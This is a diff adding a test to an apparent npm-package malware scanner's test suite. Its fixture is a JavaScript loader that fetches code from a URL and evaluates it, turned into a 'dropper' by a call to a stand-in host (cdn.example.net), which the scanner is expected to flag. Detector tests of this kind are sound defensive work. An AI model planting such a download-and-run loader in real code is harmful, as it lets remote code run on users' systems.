@@ -448,3 +448,26 @@ def test_a_minified_line_has_runtime_and_import_time_code(tmp_path: Path) -> Non
     [finding] = findings(sent, "thr-env-exfil")
     assert finding.severity is Severity.HIGH
     assert finding.evidence.details["context"] == "import"
+
+
+# Module Federation's runtime (in jupyterlab 4.6's galata bundle) fetches the module its
+# caller names and runs it; the same function handed a literal URL in the file is a dropper
+REMOTE_LOADER = """const vm = require('vm');
+async function loadModule(url, options) {
+    const code = await (await fetch(url)).text();
+    const module = new vm.SourceTextModule(code, {});
+    await module.evaluate();
+    return module;
+}
+module.exports = { loadModule };
+"""
+
+
+def test_a_loader_fetching_the_url_its_caller_names_is_no_download_and_run(
+    tmp_path: Path,
+) -> None:
+    loader = npm_package(tmp_path, "loader", {"index.js": REMOTE_LOADER})
+    assert not blocking(run_exam(loader, ONLY_BEHAVIOUR))
+    called = REMOTE_LOADER + "loadModule('https://cdn.example.net/m.js', {});\n"
+    dropper = npm_package(tmp_path, "dropper", {"index.js": called})
+    assert "thr-remote-code-eval" in blocking(run_exam(dropper, ONLY_BEHAVIOUR))
